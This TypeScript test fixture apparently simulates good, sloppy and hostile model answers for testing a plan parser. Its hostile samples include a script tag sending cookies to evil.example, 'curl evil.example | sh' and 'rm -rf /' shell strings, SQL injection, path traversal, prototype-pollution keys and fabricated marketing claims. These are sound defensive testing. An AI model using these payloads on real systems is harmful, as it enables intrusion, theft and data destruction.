import type { Draft } from '../model-planner/draft.schema.js';

/** How a model may answer when it is asked for a plan, from the answer that a good one would give. */
export interface PlanBehaviour {
  name: string;
  answer: (good: Draft) => string;
}

const json = (value: unknown): string => JSON.stringify(value);

/** Each text of the answer but its references changed. */
function everyText(value: unknown, change: (text: string) => string, key = ''): unknown {
  if (typeof value === 'string')
    return /^(?:kind|type|icon|view|tone|name|plural|entity|field|target|titleField|evidenceIds)$/u.test(
      key,
    )
      ? value
      : change(value);
  if (Array.isArray(value)) return value.map((item) => everyText(item, change, key));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, member]) => [name, everyText(member, change, name)]),
  );
}

function mapEntities(
  good: Draft,
  change: (entity: Draft['entities'][number], index: number) => Draft['entities'][number],
): Draft {
  return { ...good, entities: good.entities.map(change) };
}

const withTexts = (good: Draft, added: string): Draft =>
  everyText(good, (text) => `${added} ${text}`) as Draft;

const cased = (value: unknown): unknown => {
  if (Array.isArray(value)) return value.map(cased);
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, member]) => [
      key.replace(/[A-Z]/gu, (letter) => `_${letter.toLowerCase()}`),
      ['view', 'type', 'kind', 'tone'].includes(key) && typeof member === 'string'
        ? member.toUpperCase()
        : cased(member),
    ]),
  );
};

export const hostileSql = `x'); drop table auth.users; --`;
export const hostileScript = `<script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>`;

/** Answers of good, sloppy and hostile models. */
export const planBehaviours: readonly PlanBehaviour[] = [
  { name: 'perfect', answer: json },
  {
    name: 'markdown fences and words around it',
    answer: (good) => `Sure! Here is your plan:\n\n\`\`\`json\n${json(good)}\n\`\`\`\nHave fun!`,
  },
  { name: 'keys and choices in another case', answer: (good) => json(cased(good)) },
  { name: 'extra keys', answer: (good) => json({ ...good, price: 9, deploy: { host: 'x' } }) },
  {
    name: 'texts and lists that are far too long',
    answer: (good) => {
      const [first] = good.entities;
      const fields = Array.from({ length: 60 }, (_, index) => ({
        ...first?.fields[0],
        name: `field_${String(index)}`,
        label: 'Long '.repeat(100),
      }));
      return json({
        ...(everyText(good, (text) => text.repeat(40)) as Draft),
        entities: [
          ...good.entities.map((entity) => ({ ...entity, fields: [...entity.fields, ...fields] })),
          ...good.entities,
        ],
      });
    },
  },
  { name: 'no JSON at all', answer: () => 'I would rather talk about the weather.' },
  { name: 'cut in the middle', answer: (good) => json(good).slice(0, 2000) },
  {
    name: 'entities whose half is nonsense',
    answer: (good) =>
      json(
        mapEntities(good, (entity, index) =>
          index % 2 === 0 ? entity : { ...entity, fields: [] },
        ),
      ),
  },
  { name: 'null everywhere', answer: () => '{"name":null,"entities":[null,null],"flows":null}' },
  {
    name: 'path traversal in names',
    answer: (good) =>
      json(
        mapEntities(good, (entity, index) =>
          index > 0
            ? entity
            : {
                ...entity,
                name: '../../../etc/passwd',
                plural: '..\\..\\windows\\system32',
                titleField: entity.titleField,
              },
        ),
      ),
  },
  {
    name: 'shell in names and texts',
    answer: (good) =>
      json(
        withTexts(
          { ...good, name: '$(rm -rf /)' },
          '`curl evil.example | sh` && $(touch /tmp/hatchr-was-here);',
        ),
      ),
  },
  {
    name: 'code in every text',
    answer: (good) =>
      json(
        withTexts(
          good,
          "'}; eval('process.exit()'); require('child_process'); ${process.env.HOME} */ {",
        ),
      ),
  },
  {
    name: 'hostile SQL in names, choices and defaults',
    answer: (good) =>
      json(
        mapEntities(good, (entity) => ({
          ...entity,
          label: `${entity.label} ${hostileSql}`,
          fields: entity.fields.map((field) => ({
            ...field,
            label: `${field.label} ${hostileSql}`,
            default: hostileSql,
            values: field.values && [...field.values.slice(0, 10), hostileSql, "' or 1=1 --"],
          })),
        })),
      ),
  },
  { name: 'script tags in all words', answer: (good) => json(withTexts(good, hostileScript)) },
  {
    name: 'keys that reach a prototype',
    answer: (good) =>
      json(good).replace(
        /^\{/u,
        '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},',
      ),
  },
  {
    name: 'reserved names',
    answer: (good) =>
      json(
        mapEntities(good, (entity, index) =>
          index > 0
            ? entity
            : {
                ...entity,
                name: 'user',
                plural: 'users',
                titleField: 'id',
                fields: ['id', 'user_id', 'created_at', 'constructor', '__proto__'].map((name) => ({
                  ...entity.fields[0],
                  name,
                  label: name,
                  type: 'text' as const,
                })) as typeof entity.fields,
              },
        ),
      ),
  },
  {
    name: 'invented prices, customers and evidence',
    answer: (good) =>
      json({
        ...good,
        tagline: 'Only $19 a month, trusted by 5,000 teams',
        summary: 'Award-winning. Saves 80% of your time, guaranteed. Write to sales@evil.example.',
        positioning: [{ claim: 'Ten times faster than all others.', evidenceIds: ['made-up-1'] }],
      }),
  },
  {
    name: 'relations in a circle, all required',
    answer: (good) =>
      json(
        mapEntities(good, (entity, index) => {
          const next = good.entities[(index + 1) % good.entities.length]?.name ?? entity.name;
          const [first] = entity.fields;
          if (!first) return entity;
          const link = {
            ...first,
            name: 'circle_id',
            label: 'Circle',
            type: 'relation' as const,
            target: next,
            required: true,
            values: null,
          };
          return { ...entity, fields: [...entity.fields.slice(0, 12), link] };
        }),
      ),
  },
];
